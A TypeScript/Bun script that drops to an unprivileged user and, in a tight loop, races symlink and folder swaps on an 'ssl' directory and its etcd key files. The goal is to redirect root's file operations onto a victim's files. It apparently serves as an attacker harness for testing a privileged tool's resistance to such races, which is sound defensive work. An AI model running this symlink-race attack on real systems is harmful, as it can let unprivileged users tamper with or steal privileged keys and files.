import { mkdirSync, renameSync, symlinkSync } from "node:fs";
import { join } from "node:path";

// Owns the folder of a destination, and puts links to a victim's files in the place of all that root looks at in it,
// in a tight loop: the argument is the folder that `ssl` is in, and the victim's folder. Ends when it is told to.

const [home = "", victim = ""] = process.argv.slice(2);
process.setgroups?.([]);
process.setgid?.(65534);
process.setuid?.(65534);

const ssl = join(home, "ssl");
let tricks = 0;

function attempt(call: () => void): void {
  try {
    call();
  } catch {
    // somebody was quicker: what counts is what root makes of it
  }
}

/** Leads a name elsewhere for a moment. What root made at it meanwhile is moved out of the way. */
function lead(path: string, target: string, link: (path: string, target: string) => void): void {
  const aside = `${path}.aside-${tricks++}`;
  attempt(() => renameSync(path, aside));
  attempt(() => link(path, target));
  pause(Math.random() * 2);
  attempt(() => renameSync(path, join(home, `junk-${tricks}`)));
  attempt(() => renameSync(aside, path));
}

function pause(milliseconds: number): void {
  for (const end = performance.now() + milliseconds; performance.now() < end; );
}

const ownLink = (path: string, target: string) => symlinkSync(target, path);
/** A link that root made, which it trusts, and in the next moment one that leads elsewhere. */
const rootsLinkFirst = (path: string, target: string) => {
  renameSync(join(home, "ssl.pem"), path);
  pause(Math.random());
  const mine = `${path}.mine`;
  attempt(() => symlinkSync(target, mine));
  renameSync(path, join(home, "ssl.pem"));
  renameSync(mine, path);
};
const ownFolder = (path: string) => mkdirSync(path);

const tricksOnNames: ReadonlyArray<() => void> = [
  () => lead(ssl, victim, ownLink),
  () => lead(ssl, victim, rootsLinkFirst),
  () => lead(join(ssl, ".etcd.set"), victim, ownLink),
  () => lead(join(ssl, ".etcd.set"), victim, ownFolder),
  ...["etcd-key.pem", "etcd.pem", "etcd-ca.pem"].map(
    (name) => () => lead(join(ssl, name), join(victim, name), ownLink),
  ),
];

process.once("SIGTERM", () => {
  console.log(tricks);
  process.exit(0);
});
for (;;) {
  tricksOnNames[Math.floor(Math.random() * tricksOnNames.length)]?.();
  await Bun.sleep(Math.random() * 4);
}
